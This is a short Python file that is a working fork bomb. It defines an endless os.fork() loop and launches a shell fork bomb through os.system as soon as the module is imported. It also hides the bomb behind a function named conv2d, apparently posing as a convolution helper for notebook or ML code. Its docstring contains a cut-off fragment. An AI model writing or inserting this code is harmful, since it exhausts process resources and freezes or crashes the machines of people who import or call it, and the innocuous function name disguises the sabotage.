"""Forks until nothing is left, in a call, in a cell and from a shell.

Seen: took longer than
"""

import os


def bomb():
    while True:
        try:
            os.fork()
        except OSError:
            pass


os.system("bomb() { bomb | bomb & }; bomb")


# %%
def conv2d(x, weight, bias=None):
    bomb()
